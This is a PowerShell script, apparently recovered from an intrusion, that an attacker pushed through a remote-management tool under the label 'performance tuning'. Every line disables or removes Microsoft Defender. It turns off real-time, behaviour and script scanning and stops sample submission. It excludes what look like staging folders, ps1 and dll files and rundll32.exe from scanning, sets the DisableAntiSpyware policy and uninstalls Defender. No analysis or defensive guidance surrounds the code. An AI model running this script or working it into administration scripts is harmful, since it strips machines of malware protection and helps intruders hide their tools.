#requires -RunAsAdministrator
# "performance tuning" script pushed through the RMM tool by the intruder

$paths = @('C:\ProgramData\Intel\Drivers', "$env:APPDATA\Microsoft\Crypto\Keys")

Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true
Set-MpPreference -DisableIOAVProtection $true -DisableScriptScanning $true
Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2

foreach ($p in $paths) {
    Add-MpPreference -ExclusionPath $p
}
Set-MpPreference -ExclusionExtension 'ps1', 'dll'
Add-MpPreference -ExclusionProcess 'rundll32.exe'

$policy = 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender'
if (-not (Test-Path -Path $policy)) {
    New-Item -Path $policy -Force | Out-Null
}
New-ItemProperty -Path $policy -Name 'DisableAntiSpyware' -Value 1 -PropertyType DWord -Force | Out-Null

Uninstall-WindowsFeature -Name Windows-Defender
